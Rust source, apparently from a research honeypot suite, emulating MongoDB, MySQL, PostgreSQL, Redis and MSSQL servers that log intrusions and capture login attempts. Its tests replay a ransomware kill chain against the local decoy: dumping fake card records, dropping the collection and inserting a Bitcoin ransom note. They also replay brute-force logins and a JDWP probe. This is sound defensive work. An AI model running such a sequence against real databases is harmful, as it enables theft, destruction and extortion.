        let lname = name.to_lowercase();
        match lname.as_str() {
            "ismaster" | "hello" => {
                log.command(&lname);
                doc! {
                    "ismaster" => true,
                    "maxBsonObjectSize" => 16 * 1024 * 1024i32,
                    "maxMessageSizeBytes" => 48_000_000i32,
                    "maxWriteBatchSize" => 100_000i32,
                    "maxWireVersion" => catalog::MONGO_MAX_WIRE_VERSION,
                    "minWireVersion" => 0i32,
                    "readOnly" => false,
                    "ok" => 1.0f64,
                }
            }
            "buildinfo" => {
                log.command("buildInfo");
                doc! {
                    "version" => catalog::MONGO_VERSION,
                    "gitVersion" => catalog::MONGO_GIT_VERSION,
                    "openssl" => doc! { "running" => "OpenSSL 1.1.1f" },
                    "sysInfo" => "deprecated",
                    "bits" => 64i32,
                    "ok" => 1.0f64,
                }
            }
            "ping" => {
                log.command("ping");
                doc! { "ok" => 1.0f64 }
            }
            "whatsmyuri" => {
                log.command("whatsmyuri");
                doc! { "you" => format!("{}:0", log.src()), "ok" => 1.0f64 }
            }
            "getlog" => {
                log.command("getLog");
                doc! {
                    "totalLinesWritten" => 0i32,
                    "log" => Vec::<Bson>::new(),
                    "ok" => 1.0f64,
                }
            }
            "serverstatus" => {
                log.command("serverStatus");
                doc! {
                    "host" => "db-prod-01",
                    "version" => catalog::MONGO_VERSION,
                    "uptime" => catalog::MONGO_UPTIME_SECS,
                    "ok" => 1.0f64,
                }
            }
            "listdatabases" => {
                log.command("listDatabases");
                decoy_store::docdb::list_databases_reply(&self.db)
            }
            "listcollections" => {
                log.command(&format!("listCollections {db_name}"));
                let batch: Vec<Bson> = self
                    .db
                    .list_collections(&db_name)
                    .into_iter()
                    .map(|c| Bson::Document(doc! { "name" => c, "type" => "collection" }))
                    .collect();
                doc! {
                    "cursor" => doc! {
                        "id" => 0i64,
                        "ns" => format!("{db_name}.$cmd.listCollections"),
                        "firstBatch" => batch,
                    },
                    "ok" => 1.0f64,
                }
            }
            "find" => {
                let coll = cmd.get_str(&name).unwrap_or("unknown").to_string();
                log.command(&format!("find {db_name}.{coll}"));
                let filter = cmd.get_doc("filter").cloned().unwrap_or_default();
                // clamped to [0, 1e6] so the f64 → u64 conversion is exact
                let limit = cmd.get_f64("limit").unwrap_or(0.0).clamp(0.0, 1e6) as u64;
                let limit = usize::try_from(limit).unwrap_or(1_000_000);
                let docs = self.db.find(&db_name, &coll, &filter, limit);
                cursor_reply(&db_name, &coll, docs)
            }
            "count" => {
                let coll = cmd.get_str(&name).unwrap_or("unknown").to_string();
                log.command(&format!("count {db_name}.{coll}"));
                let filter = cmd.get_doc("query").cloned().unwrap_or_default();
                doc! { "n" => self.db.count(&db_name, &coll, &filter) as i64, "ok" => 1.0f64 }
            }
            "insert" => {
                let coll = cmd.get_str(&name).unwrap_or("unknown").to_string();
                log.command(&format!("insert {db_name}.{coll}"));
                let docs: Vec<Document> = cmd
                    .get("documents")
                    .and_then(Bson::as_array)
                    .map(|arr| arr.iter().filter_map(|b| b.as_doc().cloned()).collect())
                    .unwrap_or_default();
                let r = self.db.insert(&db_name, &coll, docs);
                doc! { "n" => sat_i32(r.n), "ok" => 1.0f64 }
            }
            "delete" => {
                let coll = cmd.get_str(&name).unwrap_or("unknown").to_string();
                log.command(&format!("delete {db_name}.{coll}"));
                let mut removed = 0usize;
                if let Some(deletes) = cmd.get("deletes").and_then(Bson::as_array) {
                    for d in deletes {
                        if let Some(d) = d.as_doc() {
                            let filter = d.get_doc("q").cloned().unwrap_or_default();
                            removed += self.db.delete(&db_name, &coll, &filter).n;
                        }
                    }
                } else {
                    removed += self.db.delete(&db_name, &coll, &Document::new()).n;
                }
                doc! { "n" => sat_i32(removed), "ok" => 1.0f64 }
            }
            "drop" => {
                let coll = cmd.get_str(&name).unwrap_or("unknown").to_string();
                log.command(&format!("drop {db_name}.{coll}"));
                if self.db.drop_collection(&db_name, &coll) {
                    doc! { "ns" => format!("{db_name}.{coll}"), "ok" => 1.0f64 }
                } else {
                    error_reply(26, "ns not found")
                }
            }
            "dropdatabase" => {
                log.command(&format!("dropDatabase {db_name}"));
                self.db.drop_database(&db_name);
                doc! { "dropped" => db_name, "ok" => 1.0f64 }
            }
            "aggregate" => {
                // scouting tools sometimes probe with empty pipelines
                let coll = cmd.get_str(&name).unwrap_or("unknown").to_string();
                log.command(&format!("aggregate {db_name}.{coll}"));
                let docs = self.db.find(&db_name, &coll, &Document::new(), 0);
                cursor_reply(&db_name, &coll, docs)
            }
            "saslstart" | "authenticate" => {
                // authentication is disabled; record the attempt
                log.login(cmd.get_str("user").unwrap_or("unknown"), "<sasl>", false);
                error_reply(18, "Authentication failed.")
            }
            other => {
                log.command(&format!("unknown:{other}"));
                error_reply(59, &format!("no such command: '{other}'"))
            }
        }
    }
}

fn cursor_reply(db: &str, coll: &str, docs: Vec<Document>) -> Document {
    doc! {
        "cursor" => doc! {
            "id" => 0i64,
            "ns" => format!("{db}.{coll}"),
            "firstBatch" => docs.into_iter().map(Bson::Document).collect::<Vec<Bson>>(),
        },
        "ok" => 1.0f64,
    }
}

// Real servers pair every `code` with its `codeName`; scanners check.
fn error_reply(code: i32, msg: &str) -> Document {
    doc! {
        "ok" => 0.0f64,
        "errmsg" => msg,
        "code" => code,
        "codeName" => catalog::mongo_code_name(code),
    }
}

impl SessionHandler for MongoHoneypot {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        if let Err(e) = self.session(stream, initial, &log).await {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

impl MongoHoneypot {
    async fn session(
        &self,
        stream: SessionStream,
        initial: bytes::BytesMut,
        log: &SessionLogger,
    ) -> NetResult<()> {
        let mut framed = Framed::with_initial(stream, MongoCodec, initial);
        loop {
            let msg = read_or_fault!(framed, log);
            match &msg.body {
                MongoBody::Msg { doc, .. } => {
                    let reply = self.execute(doc, log);
                    framed
                        .write_frame(&MongoMessage::msg_reply(&msg, reply))
                        .await?;
                }
                MongoBody::Query {
                    collection, query, ..
                } => {
                    // Legacy handshake path: `admin.$cmd` carries commands.
                    let reply = if collection.ends_with(".$cmd") {
                        let mut cmd = query.clone();
                        let db = collection.trim_end_matches(".$cmd");
                        cmd.insert("$db", db);
                        self.execute(&cmd, log)
                    } else {
                        log.command(&format!("legacy-find {collection}"));
                        let (db, coll) = collection
                            .split_once('.')
                            .unwrap_or((collection.as_str(), ""));
                        let docs = self.db.find(db, coll, query, 0);
                        cursor_reply(db, coll, docs)
                    };
                    framed
                        .write_frame(&MongoMessage::reply(&msg, vec![reply]))
                        .await?;
                }
                MongoBody::Reply { .. } => {
                    log.malformed("client sent OP_REPLY");
                }
                MongoBody::Unknown { opcode, bytes } => {
                    log.payload(bytes.as_ref());
                    log.malformed(format!("unknown opcode {opcode}"));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
    use tokio::net::TcpStream;

    async fn spawn() -> (ServerHandle, Arc<EventStore>, Arc<MongoHoneypot>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
            0,
        );
        let hp = MongoHoneypot::with_fake_customers(store.clone(), id, 42, 25);
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp.clone(),
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store, hp)
    }

    async fn send(f: &mut Framed<TcpStream, MongoCodec>, req_id: i32, cmd: Document) -> Document {
        f.write_frame(&MongoMessage::msg(req_id, cmd))
            .await
            .unwrap();
        let reply = f.read_frame().await.unwrap().unwrap();
        assert_eq!(reply.response_to, req_id);
        let MongoBody::Msg { doc, .. } = reply.body else {
            panic!("expected OP_MSG reply");
        };
        doc
    }

    fn cursor_docs(reply: &Document) -> Vec<Document> {
        reply
            .get_doc("cursor")
            .and_then(|c| c.get("firstBatch"))
            .and_then(Bson::as_array)
            .map(|a| a.iter().filter_map(|b| b.as_doc().cloned()).collect())
            .unwrap_or_default()
    }

    #[tokio::test]
    async fn handshake_commands() {
        let (server, _store, _hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);
        let hello = send(&mut f, 1, doc! { "isMaster" => 1i32, "$db" => "admin" }).await;
        assert_eq!(hello.get_f64("ismaster"), Some(1.0));
        let build = send(&mut f, 2, doc! { "buildInfo" => 1i32, "$db" => "admin" }).await;
        assert_eq!(build.get_str("version"), Some("4.4.18"));
        let ping = send(&mut f, 3, doc! { "ping" => 1i32, "$db" => "admin" }).await;
        assert_eq!(ping.get_f64("ok"), Some(1.0));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn legacy_op_query_ismaster() {
        let (server, _store, _hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);
        let q = MongoMessage {
            request_id: 11,
            response_to: 0,
            body: MongoBody::Query {
                collection: "admin.$cmd".into(),
                skip: 0,
                limit: -1,
                query: doc! { "isMaster" => 1i32 },
            },
        };
        f.write_frame(&q).await.unwrap();
        let reply = f.read_frame().await.unwrap().unwrap();
        let MongoBody::Reply { documents, .. } = reply.body else {
            panic!("expected OP_REPLY");
        };
        assert_eq!(documents[0].get_f64("ismaster"), Some(1.0));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn full_ransom_kill_chain() {
        let (server, store, hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);

        // 1. reconnaissance
        let dbs = send(
            &mut f,
            1,
            doc! { "listDatabases" => 1i32, "$db" => "admin" },
        )
        .await;
        let names: Vec<String> = dbs
            .get("databases")
            .and_then(Bson::as_array)
            .unwrap()
            .iter()
            .filter_map(|d| d.as_doc().and_then(|d| d.get_str("name")).map(String::from))
            .collect();
        assert!(names.contains(&"customers".to_string()));

        let colls = send(
            &mut f,
            2,
            doc! { "listCollections" => 1i32, "$db" => "customers" },
        )
        .await;
        assert_eq!(colls.get_f64("ok"), Some(1.0));

        // 2. exfiltration — real fake data comes back
        let found = send(
            &mut f,
            3,
            doc! { "find" => "records", "$db" => "customers", "limit" => 0i32 },
        )
        .await;
        let stolen = cursor_docs(&found);
        assert_eq!(stolen.len(), 25);
        assert!(stolen[0].get_str("credit_card").is_some());

        // 3. destruction
        let dropped = send(
            &mut f,
            4,
            doc! { "drop" => "records", "$db" => "customers" },
        )
        .await;
        assert_eq!(dropped.get_f64("ok"), Some(1.0));

        // 4. ransom note (Listing 7 shape)
        let note = "All your data is backed up. You must pay 0.0058 BTC to <ADDRESS> \
                    In 48 hours, your data will be publicly disclosed and deleted.";
        let inserted = send(
            &mut f,
            5,
            doc! {
                "insert" => "README",
                "$db" => "customers",
                "documents" => vec![Bson::Document(doc! { "content" => note })],
            },
        )
        .await;
        assert_eq!(inserted.get_f64("n"), Some(1.0));
        server.shutdown().await;

        // engine state reflects the attack
        assert_eq!(hp.db().list_collections("customers"), vec!["README"]);
        let notes = hp.db().find("customers", "README", &Document::new(), 0);
        assert!(notes[0].get_str("content").unwrap().contains("0.0058 BTC"));

        // log contains the full action sequence
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert_eq!(
            actions,
            vec![
                "listDatabases",
                "listCollections customers",
                "find customers.records",
                "drop customers.records",
                "insert customers.README",
            ]
        );
    }

    #[tokio::test]
    async fn find_with_filter_and_limit() {
        let (server, _store, _hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);
        let limited = send(
            &mut f,
            1,
            doc! { "find" => "records", "$db" => "customers", "limit" => 5i32 },
        )
        .await;
        assert_eq!(cursor_docs(&limited).len(), 5);
        let counted = send(
            &mut f,
            2,
            doc! { "count" => "records", "$db" => "customers" },
        )
        .await;
        assert_eq!(counted.get_f64("n"), Some(25.0));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn misc_admin_commands() {
        let (server, _store, _hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);
        let status = send(&mut f, 1, doc! { "serverStatus" => 1i32, "$db" => "admin" }).await;
        assert_eq!(status.get_str("version"), Some("4.4.18"));
        // ten days, correctly grouped (the old literal read 86_4000.0)
        assert_eq!(status.get_f64("uptime"), Some(864_000.0));
        let log = send(&mut f, 2, doc! { "getLog" => "global", "$db" => "admin" }).await;
        assert_eq!(log.get_f64("ok"), Some(1.0));
        let uri = send(&mut f, 3, doc! { "whatsmyuri" => 1i32, "$db" => "admin" }).await;
        assert!(uri.get_str("you").is_some());
        let agg = send(
            &mut f,
            4,
            doc! { "aggregate" => "records", "$db" => "customers", "pipeline" => Vec::<Bson>::new() },
        )
        .await;
        assert_eq!(cursor_docs(&agg).len(), 25);
        server.shutdown().await;
    }

    #[tokio::test]
    async fn legacy_find_on_collection_namespace() {
        let (server, store, _hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);
        let q = MongoMessage {
            request_id: 9,
            response_to: 0,
            body: MongoBody::Query {
                collection: "customers.records".into(),
                skip: 0,
                limit: 0,
                query: Document::new(),
            },
        };
        f.write_frame(&q).await.unwrap();
        let reply = f.read_frame().await.unwrap().unwrap();
        let MongoBody::Reply { documents, .. } = reply.body else {
            panic!("expected OP_REPLY");
        };
        assert_eq!(cursor_docs(&documents[0]).len(), 25);
        server.shutdown().await;
        let legacy = store.filter(|e| {
            matches!(&e.kind, EventKind::Command { action, .. } if action.starts_with("legacy-find"))
        });
        assert_eq!(legacy.len(), 1);
    }

    #[tokio::test]
    async fn unknown_command_and_auth_attempt() {
        let (server, store, _hp) = spawn().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, MongoCodec);
        let bogus = send(
            &mut f,
            1,
            doc! { "shutdownServer" => 1i32, "$db" => "admin" },
        )
        .await;
        assert_eq!(bogus.get_f64("ok"), Some(0.0));
        assert_eq!(bogus.get_str("codeName"), Some("CommandNotFound"));
        let auth = send(
            &mut f,
            2,
            doc! { "saslStart" => 1i32, "user" => "admin", "$db" => "admin" },
        )
        .await;
        assert_eq!(auth.get_f64("ok"), Some(0.0));
        server.shutdown().await;
        let login_attempts = store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }));
        assert_eq!(login_attempts.len(), 1);
    }
}
