//! Low-interaction (Qeeqbox-style) honeypots for MySQL, PostgreSQL, Redis
//! and MSSQL.
//!
//! These provide "a basic response upon connection, and can capture user
//! credentials such as usernames and passwords, but lack the ability to
//! provide further interaction" (§4.1). Every login attempt is rejected;
//! everything is logged.

use crate::logging::SessionLogger;
use decoy_net::cursor::sat_u8;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::{Dbms, EventStore, HoneypotId};
use decoy_wire::{mysql, pgwire, resp, tds};
use std::sync::Arc;
use std::time::Duration;

/// Read a frame; on clean EOF return from the session, on decode faults log
/// through [`SessionLogger::fault`] (foreign-payload recognition) and end
/// the session.
///
/// Idle timeouts, the session wall-clock deadline, and the byte budget are
/// enforced underneath by [`SessionStream`] — a stalled peer surfaces here
/// as EOF, so no per-family timeout wrapper is needed.
macro_rules! read_or_fault {
    ($framed:expr, $log:expr) => {
        match $framed.read_frame().await {
            Ok(Some(frame)) => frame,
            Ok(None) => return Ok(()),
            Err(e) => {
                $log.fault($framed.buffered(), &e);
                return Ok(());
            }
        }
    };
}
pub(crate) use read_or_fault;

/// One low-interaction honeypot instance; protocol chosen by `id.dbms`.
pub struct LowHoneypot {
    store: Arc<EventStore>,
    id: HoneypotId,
}

impl LowHoneypot {
    /// Create an instance logging into `store`.
    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
        Arc::new(LowHoneypot { store, id })
    }
}

impl SessionHandler for LowHoneypot {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        // MySQL is server-speaks-first: a header-less client is waiting for
        // our greeting, so the PROXY sniff must have a deadline there.
        let sniff = if self.id.dbms == Dbms::MySql {
            proxy::maybe_read_v1_deadline(&mut stream, Duration::from_millis(1500)).await
        } else {
            proxy::maybe_read_v1(&mut stream).await
        };
        let (proxied, initial) = match sniff {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        let outcome = match self.id.dbms {
            Dbms::MySql => mysql_session(stream, initial, &log).await,
            Dbms::Postgres => pg_session(stream, initial, &log).await,
            Dbms::Redis => redis_session(stream, initial, &log).await,
            Dbms::Mssql => mssql_session(stream, initial, &log).await,
            // Low Qeeqbox deployment covers only the four DBMS of Table 4.
            other => {
                log.malformed(format!("no low-interaction emulation for {other:?}"));
                Ok(())
            }
        };
        if let Err(e) = outcome {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

async fn mysql_session(
    stream: SessionStream,
    initial: bytes::BytesMut,
    log: &SessionLogger,
) -> NetResult<()> {
    let mut framed = Framed::with_initial(stream, mysql::MySqlCodec, initial);
    // Derive a per-session challenge from the session context; a fixed value
    // would fingerprint the honeypot.
    let mut auth_data = [0u8; 20];
    for (i, b) in auth_data.iter_mut().enumerate() {
        let mix = (usize::from(log.src().to_canonical().is_ipv4()) + i * 7) % 60;
        *b = 0x21 + sat_u8(mix);
    }
    let greeting = mysql::Greeting::honeypot_default(rand_thread_id(log), auth_data);
    framed
        .write_frame(&mysql::MySqlPacket {
            seq: 0,
            payload: greeting.build(),
        })
        .await?;
    let packet = read_or_fault!(framed, log);
    match mysql::LoginRequest::parse(&packet.payload) {
        Ok(login) => {
            log.login(&login.username, &login.password_observed(), false);
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: packet.seq.wrapping_add(1),
                    payload: mysql::access_denied(
                        &login.username,
                        &log.src().to_string(),
                        !login.auth_response.is_empty(),
                    ),
                })
                .await?;
            // A real server closes the connection after a failed login.
        }
        Err(_) => log.payload(&packet.payload),
    }
    Ok(())
}

async fn pg_session(
    stream: SessionStream,
    initial: bytes::BytesMut,
    log: &SessionLogger,
) -> NetResult<()> {
    let mut framed = Framed::with_initial(stream, pgwire::PgServerCodec::new(), initial);
    let mut user = String::new();
    loop {
        let msg = read_or_fault!(framed, log);
        match msg {
            pgwire::FrontendMessage::SslRequest => {
                framed
                    .write_frame(&pgwire::BackendMessage::SslRefused)
                    .await?;
            }
            pgwire::FrontendMessage::Startup { params } => {
                user = params
                    .iter()
                    .find(|(k, _)| k == "user")
                    .map(|(_, v)| v.clone())
                    .unwrap_or_default();
                framed
                    .write_frame(&pgwire::BackendMessage::AuthenticationCleartextPassword)
                    .await?;
            }
            pgwire::FrontendMessage::Password(password) => {
                log.login(&user, &password, false);
                framed
                    .write_frame(&pgwire::BackendMessage::auth_failed(&user))
                    .await?;
                return Ok(());
            }
            pgwire::FrontendMessage::Query(q) => {
                // pre-auth queries are protocol abuse; log and refuse
                log.command(&q);
                framed
                    .write_frame(&pgwire::BackendMessage::ErrorResponse {
                        severity: "FATAL".into(),
                        code: "08P01".into(),
                        message: "expected password response".into(),
                    })
                    .await?;
                return Ok(());
            }
            pgwire::FrontendMessage::Terminate => return Ok(()),
            pgwire::FrontendMessage::CancelRequest { .. } => return Ok(()),
            pgwire::FrontendMessage::Other { tag, body } => {
                log.payload(&[&[tag], body.as_ref()].concat());
                return Ok(());
            }
        }
    }
}

async fn redis_session(
    stream: SessionStream,
    initial: bytes::BytesMut,
    log: &SessionLogger,
) -> NetResult<()> {
    let mut framed = Framed::with_initial(stream, resp::RespCodec::server(), initial);
    loop {
        let value = read_or_fault!(framed, log);
        let Some(cmd) = resp::as_command(&value) else {
            framed
                .write_frame(&resp::RespValue::Error(
                    "ERR Protocol error: expected command".into(),
                ))
                .await?;
            continue;
        };
        // Inline garbage (JDWP probes, RDP cookies, random floods) is a
        // payload capture; only plausible Redis verbs proceed as commands.
        if let resp::RespValue::Inline(line) = &value {
            let plausible = cmd.name.len() <= 20
                && cmd
                    .name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
            if decoy_wire::foreign::recognize(line.as_bytes()).is_some() || !plausible {
                log.payload(line.as_bytes());
                framed
                    .write_frame(&resp::RespValue::Error(
                        "ERR Protocol error: unbalanced quotes in request".into(),
                    ))
                    .await?;
                continue;
            }
        }
        log.command(&cmd.render());
        let reply = match cmd.name.as_str() {
            "PING" => resp::RespValue::Simple("PONG".into()),
            "QUIT" => {
                framed
                    .write_frame(&resp::RespValue::Simple("OK".into()))
                    .await?;
                return Ok(());
            }
            "AUTH" => {
                let password = cmd.arg_text(0).unwrap_or_default();
                let username = if cmd.args.len() > 1 {
                    // AUTH <user> <pass> (Redis 6 ACL form)
                    cmd.arg_text(0).unwrap_or_default()
                } else {
                    "default".to_string()
                };
                let password = if cmd.args.len() > 1 {
                    cmd.arg_text(1).unwrap_or_default()
                } else {
                    password
                };
                log.login(&username, &password, false);
                resp::RespValue::Error("ERR invalid password".into())
            }
            // Everything else: the instance claims to require auth, which is
            // all a low-interaction emulation offers.
            _ => resp::RespValue::Error("NOAUTH Authentication required.".into()),
        };
        framed.write_frame(&reply).await?;
    }
}

async fn mssql_session(
    stream: SessionStream,
    initial: bytes::BytesMut,
    log: &SessionLogger,
) -> NetResult<()> {
    let mut framed = Framed::with_initial(stream, tds::TdsCodec, initial);
    loop {
        let packet = read_or_fault!(framed, log);
        match packet.ptype {
            tds::PKT_PRELOGIN => {
                framed
                    .write_frame(&tds::TdsPacket::eom(
                        tds::PKT_RESPONSE,
                        tds::honeypot_prelogin_response(),
                    ))
                    .await?;
            }
            tds::PKT_LOGIN7 => match tds::Login7::parse(&packet.payload) {
                Ok(login) => {
                    log.login(&login.username, &login.password, false);
                    framed
                        .write_frame(&tds::TdsPacket::eom(
                            tds::PKT_RESPONSE,
                            tds::build_login_failed(&login.username),
                        ))
                        .await?;
                    return Ok(());
                }
                Err(_) => {
                    log.payload(&packet.payload);
                    return Ok(());
                }
            },
            _ => {
                log.payload(&packet.payload);
                return Ok(());
            }
        }
    }
}

/// Vary the advertised MySQL thread id per session without real randomness.
fn rand_thread_id(log: &SessionLogger) -> u32 {
    let mut h: u32 = 0x9e37_79b9;
    if let std::net::IpAddr::V4(v4) = log.src() {
        h ^= u32::from(v4);
    }
    h.rotate_left(13).wrapping_mul(0x85eb_ca6b) % 100_000 + 10
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions};
    use decoy_net::time::Clock;
    use decoy_net::Codec;
    use decoy_store::{ConfigVariant, EventKind, InteractionLevel};
    use tokio::net::TcpStream;

    async fn spawn_low(dbms: Dbms) -> (decoy_net::server::ServerHandle, Arc<EventStore>) {
        let store = EventStore::new();
        let id = HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0);
        let hp = LowHoneypot::new(store.clone(), id);
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp,
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store)
    }

    fn logins(store: &EventStore) -> Vec<(String, String)> {
        store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::LoginAttempt {
                    username, password, ..
                } => Some((username, password)),
                _ => None,
            })
            .collect()
    }

    #[tokio::test]
    async fn mysql_low_captures_credentials_and_denies() {
        let (server, store) = spawn_low(Dbms::MySql).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut framed = Framed::new(stream, mysql::MySqlCodec);
        let greeting_pkt = framed.read_frame().await.unwrap().unwrap();
        let greeting = mysql::Greeting::parse(&greeting_pkt.payload).unwrap();
        assert_eq!(greeting.server_version, "8.0.36");
        let login = mysql::LoginRequest::cleartext("root", "aaaaaa", None);
        framed
            .write_frame(&mysql::MySqlPacket {
                seq: 1,
                payload: login.build(),
            })
            .await
            .unwrap();
        let reply = framed.read_frame().await.unwrap().unwrap();
        let (code, msg) = mysql::parse_err(&reply.payload).unwrap();
        assert_eq!(code, 1045);
        assert!(msg.contains("Access denied"));
        server.shutdown().await;
        assert_eq!(
            logins(&store),
            vec![("root".to_string(), "aaaaaa".to_string())]
        );
    }

    #[tokio::test]
    async fn pg_low_denies_with_28p01() {
        let (server, store) = spawn_low(Dbms::Postgres).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut framed = Framed::new(stream, pgwire::PgClientCodec::new());
        framed
            .write_frame(&pgwire::FrontendMessage::Startup {
                params: vec![("user".into(), "postgres".into())],
            })
            .await
            .unwrap();
        assert_eq!(
            framed.read_frame().await.unwrap().unwrap(),
            pgwire::BackendMessage::AuthenticationCleartextPassword
        );
        framed
            .write_frame(&pgwire::FrontendMessage::Password("postgres".into()))
            .await
            .unwrap();
        let pgwire::BackendMessage::ErrorResponse { code, .. } =
            framed.read_frame().await.unwrap().unwrap()
        else {
            panic!("expected error");
        };
        assert_eq!(code, "28P01");
        server.shutdown().await;
        assert_eq!(
            logins(&store),
            vec![("postgres".to_string(), "postgres".to_string())]
        );
    }

    #[tokio::test]
    async fn redis_low_requires_auth_and_logs_attempts() {
        let (server, store) = spawn_low(Dbms::Redis).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut framed = Framed::new(stream, resp::RespCodec::client());
        framed
            .write_frame(&resp::RespValue::command(&["KEYS", "*"]))
            .await
            .unwrap();
        assert_eq!(
            framed.read_frame().await.unwrap().unwrap(),
            resp::RespValue::Error("NOAUTH Authentication required.".into())
        );
        framed
            .write_frame(&resp::RespValue::command(&["AUTH", "hunter2"]))
            .await
            .unwrap();
        assert_eq!(
            framed.read_frame().await.unwrap().unwrap(),
            resp::RespValue::Error("ERR invalid password".into())
        );
        server.shutdown().await;
        assert_eq!(
            logins(&store),
            vec![("default".to_string(), "hunter2".to_string())]
        );
    }

    #[tokio::test]
    async fn mssql_low_full_login_exchange() {
        let (server, store) = spawn_low(Dbms::Mssql).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut framed = Framed::new(stream, tds::TdsCodec);
        framed
            .write_frame(&tds::TdsPacket::eom(
                tds::PKT_PRELOGIN,
                tds::build_prelogin(&[
                    (0x00, vec![0, 0, 0, 0, 0, 0].into()),
                    (0x01, vec![0].into()),
                ]),
            ))
            .await
            .unwrap();
        let prelogin_reply = framed.read_frame().await.unwrap().unwrap();
        assert_eq!(prelogin_reply.ptype, tds::PKT_RESPONSE);
        let login = tds::Login7 {
            hostname: "kali".into(),
            username: "sa".into(),
            password: "123".into(),
            appname: "sqlbrute".into(),
            servername: "victim".into(),
            database: String::new(),
        };
        framed
            .write_frame(&tds::TdsPacket::eom(tds::PKT_LOGIN7, login.build()))
            .await
            .unwrap();
        let reply = framed.read_frame().await.unwrap().unwrap();
        let (number, msg) = tds::parse_error_token(&reply.payload).unwrap();
        assert_eq!(number, 18456);
        assert!(msg.contains("'sa'"));
        server.shutdown().await;
        assert_eq!(logins(&store), vec![("sa".to_string(), "123".to_string())]);
    }

    #[tokio::test]
    async fn proxy_header_sets_logged_source() {
        let (server, store) = spawn_low(Dbms::Redis).await;
        let mut stream = TcpStream::connect(server.local_addr()).await.unwrap();
        use tokio::io::AsyncWriteExt;
        let header = decoy_net::proxy::encode_v1(
            "198.51.100.42:40000".parse().unwrap(),
            server.local_addr(),
        );
        stream.write_all(header.as_bytes()).await.unwrap();
        let mut framed = Framed::new(stream, resp::RespCodec::client());
        framed
            .write_frame(&resp::RespValue::command(&["PING"]))
            .await
            .unwrap();
        assert_eq!(
            framed.read_frame().await.unwrap().unwrap(),
            resp::RespValue::Simple("PONG".into())
        );
        server.shutdown().await;
        let srcs = store.sources();
        assert_eq!(
            srcs,
            vec!["198.51.100.42".parse::<std::net::IpAddr>().unwrap()]
        );
    }

    #[tokio::test]
    async fn jdwp_probe_is_captured_as_payload() {
        let (server, store) = spawn_low(Dbms::Redis).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        use tokio::io::AsyncWriteExt;
        let mut stream = stream;
        stream.write_all(b"JDWP-Handshake\r\n").await.unwrap();
        stream.flush().await.unwrap();
        // give the session a beat to log, then close
        tokio::time::sleep(Duration::from_millis(100)).await;
        drop(stream);
        tokio::time::sleep(Duration::from_millis(100)).await;
        server.shutdown().await;
        let payloads = store.filter(|e| {
            matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "jdwp-scan")
        });
        assert_eq!(payloads.len(), 1);
    }

    #[tokio::test]
    async fn garbage_tds_is_logged_not_crashed() {
        let (server, store) = spawn_low(Dbms::Mssql).await;
        let mut stream = TcpStream::connect(server.local_addr()).await.unwrap();
        use tokio::io::AsyncWriteExt;
        stream.write_all(&[0xde, 0xad, 0xbe, 0xef]).await.unwrap();
        drop(stream);
        tokio::time::sleep(Duration::from_millis(150)).await;
        server.shutdown().await;
